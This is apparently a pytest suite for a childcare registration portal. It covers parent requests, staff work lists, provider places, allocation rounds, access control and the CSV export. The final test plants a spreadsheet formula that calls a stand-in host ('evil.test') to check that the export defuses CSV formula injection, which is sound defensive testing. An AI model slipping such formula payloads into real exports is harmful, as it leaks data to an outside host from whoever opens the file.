"""The loket's pages: parents, staff and providers, each seeing only what is theirs."""

from __future__ import annotations

import csv
import dataclasses
import io
import re
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlmodel import select

from core.identity.models import Organisation
from core.models import AuditEntry
from plugins.loket.models import ChildcareRequest, FreePlace, Location, Proposal
from tests.plugins.loket.conftest import (
    LOKET_TENANTS,
    TODAY,
    make_location,
    make_request,
    tenant_db,
)
from tests.support.apps import probe_app
from tests.support.auth import make_partner, make_user, sign_in, signed_in_as

START = (TODAY + timedelta(days=40)).isoformat()
BIRTH = (TODAY - timedelta(days=120)).isoformat()


@pytest.fixture
def app(sqlite_settings, mail_sink):
    settings = dataclasses.replace(sqlite_settings, smtp_host="127.0.0.1", smtp_port=mail_sink.port)
    return probe_app(settings, tenants=LOKET_TENANTS)


def parent(app, client, subject="ouder-an"):
    return signed_in_as(client, app, "aalst", subject, ["parent"])


def staff(app, client):
    return signed_in_as(client, app, "aalst", "loket-medewerker", ["staff:loket"])


def provider(app, client, organisation="de-speelboom"):
    user = make_user(app, f"opvang-{organisation}")
    make_partner(app, "aalst", user, organisation, ["loket"])
    sign_in(client, app, "aalst", user)
    with app.extensions["opvangplein.db"].tenant_session(None) as db:
        return db.exec(select(Organisation.id).where(Organisation.slug == organisation)).one()


def request_form(location: Location, **changes) -> dict:
    form = {
        "child_first_name": "Lotte",
        "child_last_name": "Claes",
        "birth_date": BIRTH,
        "desired_start": START,
        "days": ["mon-morning", "tue-morning"],
        "preference_1": str(location.id),
        "language": "nl",
        "situation": ["work_or_training"],
        "action": "submit",
    }
    return {**form, **changes}


def test_a_parent_registers_a_request_and_gets_a_confirmation_mail(app, mail_sink):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom")
    client = app.test_client()
    parent(app, client)
    response = client.post("/t/aalst/loket/aanvraag/nieuw", data=request_form(location))
    assert response.status_code == 302
    page = client.get("/t/aalst/loket/mijn-aanvragen").get_data(as_text=True)
    assert "Lotte Claes" in page and "De Speelboom" in page and "Nog in aanmerking" in page
    [mail] = mail_sink.messages
    assert mail["To"] == "ouder-an@example.be" and "Lotte" in mail["Subject"]


def test_bad_input_shows_an_error_summary_and_keeps_the_values(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom")
    client = app.test_client()
    parent(app, client)
    yesterday = (TODAY - timedelta(days=1)).isoformat()
    response = client.post(
        "/t/aalst/loket/aanvraag/nieuw",
        data=request_form(location, desired_start=yesterday, child_last_name=""),
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert 'id="error-summary"' in page and 'href="#desired_start"' in page
    assert "De gewenste startdatum ligt in het verleden." in page
    assert 'value="Lotte"' in page and f'value="{yesterday}"' in page


def test_nonsense_dates_and_ids_are_messages_not_errors(app):
    client = app.test_client()
    parent(app, client)
    response = client.post(
        "/t/aalst/loket/aanvraag/nieuw",
        data={"birth_date": "31/02/2026", "preference_1": "not-an-id", "action": "submit"},
    )
    assert response.status_code == 422
    assert "Vul de datum in als dag/maand/jaar" in response.get_data(as_text=True)


def test_a_draft_is_kept_and_can_be_completed_later(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom")
    client = app.test_client()
    parent(app, client)
    client.post(
        "/t/aalst/loket/aanvraag/nieuw",
        data={"child_first_name": "Mila", "action": "draft", "preference_1": str(location.id)},
    )
    with tenant_db(app) as db:
        draft = db.exec(select(ChildcareRequest)).one()
        assert draft.status == "draft"
    edit = client.get(f"/t/aalst/loket/aanvraag/{draft.id}/bewerken").get_data(as_text=True)
    assert 'value="Mila"' in edit
    client.post(
        f"/t/aalst/loket/aanvraag/{draft.id}/bewerken",
        data=request_form(location, child_first_name="Mila"),
    )
    with tenant_db(app) as db:
        assert db.get(ChildcareRequest, draft.id).status == "open"


def test_another_parent_cannot_open_a_draft_that_is_not_theirs(app):
    client = app.test_client()
    user = parent(app, client)
    with tenant_db(app) as db:
        row = make_request(db, "Mila", [], parent_user_id=user.id)
        row.status = "draft"
        db.add(row)
    other = app.test_client()
    parent(app, other, "ouder-bert")
    assert other.get(f"/t/aalst/loket/aanvraag/{row.id}/bewerken").status_code == 404


def test_staff_register_on_a_parents_behalf_and_the_origin_is_recorded(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom")
    client = app.test_client()
    staff(app, client)
    form = request_form(location, origin="phone", parent_email="bert@example.be")
    response = client.post("/t/aalst/loket/aanvraag/nieuw", data=form)
    assert response.status_code == 302
    with tenant_db(app) as db:
        row = db.exec(select(ChildcareRequest)).one()
        assert (row.origin, row.parent_user_id, row.parent_email) == (
            "phone",
            None,
            "bert@example.be",
        )


def test_the_work_list_filters_searches_and_pages(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom")
        for number in range(30):
            make_request(db, f"Kind{number:02d}", [location])
        special = make_request(db, "Zoë", [location], situation=["low_income"])
        special.origin, special.proof_checked = "paper", True
        db.add(special)
    client = app.test_client()
    staff(app, client)
    first = client.get("/t/aalst/loket/werklijst").get_data(as_text=True)
    assert "31 aanvragen" in first and "Pagina 1 van 2" in first
    second = client.get("/t/aalst/loket/werklijst?page=2").get_data(as_text=True)
    assert "Kind29" in second and "Kind00" not in second
    for query in ("q=zo", "origin=paper", "proof=yes", "basis=low_income"):
        found = client.get(f"/t/aalst/loket/werklijst?{query}").get_data(as_text=True)
        assert "1 aanvragen" in found and "Zoë" in found, query
    fragment = client.get("/t/aalst/loket/werklijst?q=zo", headers={"HX-Request": "true"})
    assert "<html" not in fragment.get_data(as_text=True)


def test_a_parent_cannot_see_the_work_list(app):
    client = app.test_client()
    parent(app, client)
    assert client.get("/t/aalst/loket/werklijst").status_code == 403


def test_a_provider_reports_free_places_only_for_its_own_locations(app):
    client = app.test_client()
    organisation = provider(app, client)
    with tenant_db(app) as db:
        own = make_location(db, "De Speelboom", organisation_id=organisation)
        other = make_location(db, "Het Nestje")
    page = client.get("/t/aalst/loket/plaatsen").get_data(as_text=True)
    assert "De Speelboom" in page and "Het Nestje" not in page
    form = {"places": "3", "age_group": "baby", "available_from": TODAY.isoformat()}
    assert client.post(f"/t/aalst/loket/plaatsen/{own.id}/vrij", data=form).status_code == 302
    assert client.post(f"/t/aalst/loket/plaatsen/{other.id}/vrij", data=form).status_code == 404
    bad = client.post(f"/t/aalst/loket/plaatsen/{own.id}/vrij", data={**form, "places": "veel"})
    assert bad.status_code == 422 and "Geef een aantal plaatsen" in bad.get_data(as_text=True)
    with tenant_db(app) as db:
        assert [p.places for p in db.exec(select(FreePlace))] == [3]


def test_round_then_provider_confirms_then_parent_accepts_with_mail_at_each_step(app, mail_sink):
    parent_client, staff_client, provider_client = (app.test_client() for _ in range(3))
    organisation = provider(app, provider_client)
    user = parent(app, parent_client)
    staff(app, staff_client)
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=1, organisation_id=organisation)
        row = make_request(
            db,
            "Noor",
            [location],
            parent_user_id=user.id,
            email="an@ouders.test",
            situation=["work_or_training"],
        )
    assert staff_client.post("/t/aalst/loket/rondes", data={"confirm": "yes"}).status_code == 302
    rounds = staff_client.get("/t/aalst/loket/rondes").get_data(as_text=True)
    assert "Noor" in rounds and "voorrangsgroep 1" in rounds
    with tenant_db(app) as db:
        proposal = db.exec(select(Proposal)).one()
    assert any("De Speelboom" in m["Subject"] for m in mail_sink.messages)
    answer = provider_client.post(
        f"/t/aalst/loket/voorstel/{proposal.id}/aanbieder", data={"decision": "confirm"}
    )
    assert answer.status_code == 302
    assert any(m["To"] == "an@ouders.test" for m in mail_sink.messages)
    page = parent_client.get("/t/aalst/loket/mijn-aanvragen").get_data(as_text=True)
    assert "De plaats aanvaarden" in page
    parent_client.post(f"/t/aalst/loket/voorstel/{proposal.id}/antwoord", data={"answer": "accept"})
    with tenant_db(app) as db:
        assert db.get(ChildcareRequest, row.id).status == "placed"
    assert "heeft een plaats" in mail_sink.messages[-1]["Subject"]


def test_a_provider_must_give_a_reason_to_reject(app):
    client = app.test_client()
    organisation = provider(app, client)
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=1, organisation_id=organisation)
        make_request(db, "Noor", [location])
    staff_client = app.test_client()
    staff(app, staff_client)
    staff_client.post("/t/aalst/loket/rondes", data={"confirm": "yes"})
    with tenant_db(app) as db:
        proposal = db.exec(select(Proposal)).one()
    url = f"/t/aalst/loket/voorstel/{proposal.id}/aanbieder"
    assert client.post(url, data={"decision": "reject"}).status_code == 422
    assert client.post(url, data={"decision": "reject", "reason": "other"}).status_code == 302
    with tenant_db(app) as db:
        assert db.get(Proposal, proposal.id).rejection_reason == "other"


def test_an_emergency_placement_is_audited(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=2, capacity=20, quota_percent=5)
        row = make_request(db, "Noor", [location])
        free_place = db.exec(select(FreePlace)).one()
    client = app.test_client()
    staff(app, client)
    client.post(
        f"/t/aalst/loket/aanvragen/{row.id}/noodopvang", data={"free_place_id": str(free_place.id)}
    )
    with tenant_db(app) as db:
        assert db.get(ChildcareRequest, row.id).status == "placed"
        [entry] = db.exec(
            select(AuditEntry).where(AuditEntry.action == "loket.emergency_placement")
        ).all()
        assert entry.object_id == str(row.id)


def test_the_dashboard_shows_figures_as_svg_and_csv(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=2)
        make_request(db, "Noor", [location], situation=["low_income"])
    client = app.test_client()
    staff(app, client)
    page = client.get("/t/aalst/loket/monitoring").get_data(as_text=True)
    assert "<svg" in page and "style=" not in page and "<script>" not in page
    csv_text = client.get("/t/aalst/loket/monitoring.csv").get_data(as_text=True)
    assert csv_text.splitlines()[0] == "section,label,value"
    assert f"month,{date.fromisoformat(TODAY.isoformat()).strftime('%Y-%m')},1" in csv_text


@pytest.mark.postgres
def test_two_parents_accepting_the_last_place_at_once_over_http_get_one_place(
    postgres_settings,
):
    import threading

    app = probe_app(postgres_settings, tenants=LOKET_TENANTS)
    clients = [app.test_client(), app.test_client()]
    users = [parent(app, clients[0], "ouder-an"), parent(app, clients[1], "ouder-bert")]
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=1)
        free_place = db.exec(select(FreePlace)).one()
        proposals = []
        for name, user in zip(["Noor", "Wout"], users, strict=True):
            row = make_request(db, name, [location], parent_user_id=user.id)
            proposal = Proposal(
                request_id=row.id,
                location_id=location.id,
                free_place_id=free_place.id,
                status="awaiting_parent",
                deadline=datetime.now(UTC) + timedelta(days=3),
            )
            db.add(proposal)
            proposals.append(proposal)
    barrier = threading.Barrier(2)
    pages: list[str] = []

    def accept(client, proposal_id):
        barrier.wait(timeout=10)
        client.post(f"/t/aalst/loket/voorstel/{proposal_id}/antwoord", data={"answer": "accept"})
        pages.append(client.get("/t/aalst/loket/mijn-aanvragen").get_data(as_text=True))

    threads = [
        threading.Thread(target=accept, args=(client, proposal.id))
        for client, proposal in zip(clients, proposals, strict=True)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    with tenant_db(app) as db:
        statuses = sorted(db.get(Proposal, p.id).status for p in proposals)
        assert statuses == ["accepted", "lapsed"]
        assert db.exec(select(FreePlace)).one().taken == 1
    assert sum("een ander gezin heeft deze plaats eerst aanvaard" in page for page in pages) == 1


def test_what_if_compares_side_by_side_and_saves_nothing(app):
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=1)
        for name in ["An", "Bo", "Cas"]:
            make_request(db, name, [location], situation=["low_income"])
    client = app.test_client()
    staff(app, client)
    form = {
        "location_id": str(location.id),
        "extra_places": "2",
        "tie_break": "lottery",
        "vulnerable_share_percent": "20",
    }
    page = client.post("/t/aalst/loket/rondes/simulatie", data=form).get_data(as_text=True)
    table = page[page.index('id="simulation"') :]
    assert "Simulatie: 3 openstaande aanvragen" in table
    assert '<td class="utrecht-table__cell">1</td><td class="utrecht-table__cell">3</td>' in table
    with tenant_db(app) as db:
        assert db.exec(select(Proposal)).all() == []
    bad = client.post("/t/aalst/loket/rondes/simulatie", data={**form, "extra_places": "-4"})
    assert bad.status_code == 422 and "Geef een aantal plaatsen van 0 tot 50." in bad.get_data(
        as_text=True
    )


def test_the_rules_and_the_what_if_fields_each_have_their_own_label_and_id(app):
    """Both forms ask for the tie-break and the share: a label that names an id twice reads one
    field's name for two, and an error summary link could jump to the wrong form."""
    client = app.test_client()
    staff(app, client)
    page = client.get("/t/aalst/loket/rondes").get_data(as_text=True)
    ids = re.findall(r'\sid="([^"]+)"', page)
    assert len(ids) == len(set(ids)), sorted(i for i in ids if ids.count(i) > 1)
    for target in re.findall(r'<label[^>]* for="([^"]+)"', page):
        assert ids.count(target) == 1, target
    assert page.count('name="tie_break"') == 2

    wrong = {"tie_break": "lottery", "vulnerable_share_percent": "20", "extra_places": "-4"}
    answer = client.post("/t/aalst/loket/rondes/simulatie", data=wrong).get_data(as_text=True)
    summary = answer[answer.index('id="error-summary"') :]
    assert '<a class="utrecht-link" href="#whatif-extra_places">' in summary
    assert 'id="whatif-extra_places" name="extra_places"' in answer


def test_changing_the_rules_adds_a_version_and_is_audited(app):
    client = app.test_client()
    staff(app, client)
    form = {"tie_break": "lottery", "vulnerable_share_percent": "30"}
    client.post("/t/aalst/loket/regels", data=form)
    page = client.get("/t/aalst/loket/rondes").get_data(as_text=True)
    assert "Voorrangsregels (versie 2)" in page
    with tenant_db(app) as db:
        [entry] = db.exec(select(AuditEntry).where(AuditEntry.action == "loket.rules_changed"))
        assert entry.detail["version"] == 2


def test_every_loket_page_answers_htmx_fragment_requests_without_a_server_error(app):
    client = app.test_client()
    signed_in_as(client, app, "aalst", "alles", ["staff:loket", "parent"])
    unknown = "00000000-0000-0000-0000-000000000001"
    failures = []
    for rule in app.url_map.iter_rules():
        if not rule.endpoint.startswith("loket."):
            continue
        path = rule.build(dict.fromkeys(rule.arguments, unknown), append_unknown=False)[1]
        for method in sorted((rule.methods or set()) & {"GET", "POST"}):
            for headers in ({}, {"HX-Request": "true"}):
                response = client.open(f"/t/aalst{path}", method=method, headers=headers)
                if response.status_code >= 500:
                    failures.append(f"{method} {path} {headers}")
    assert failures == []


def test_the_provider_hears_of_a_proposal_in_the_language_they_chose(app, mail_sink):
    provider_client, staff_client = app.test_client(), app.test_client()
    organisation = provider(app, provider_client)
    assert provider_client.get("/t/aalst/taal/en?next=/").status_code == 302
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=1, organisation_id=organisation)
        make_request(db, "Noor", [location])
    staff(app, staff_client)  # the staff member works in Dutch
    assert staff_client.post("/t/aalst/loket/rondes", data={"confirm": "yes"}).status_code == 302
    [mail] = [m for m in mail_sink.messages if m["To"] == "opvang-de-speelboom@example.be"]
    assert mail["Subject"] == "New proposal for De Speelboom"


def test_an_area_named_as_a_formula_stays_text_in_the_monitoring_export(app):
    """A provider can name an area; opened in Excel, ``=HYPERLINK(…)`` must not run."""
    formula = '=HYPERLINK("http://evil.test/?leak","Klik")'
    with tenant_db(app) as db:
        location = make_location(db, "De Speelboom", places=2)
        request = make_request(db, "Noor", [location])
        request.area = formula
        db.add(request)
    client = app.test_client()
    staff(app, client)
    exported = client.get("/t/aalst/loket/monitoring.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert "'" + formula in cells and not any(cell.startswith("=") for cell in cells)
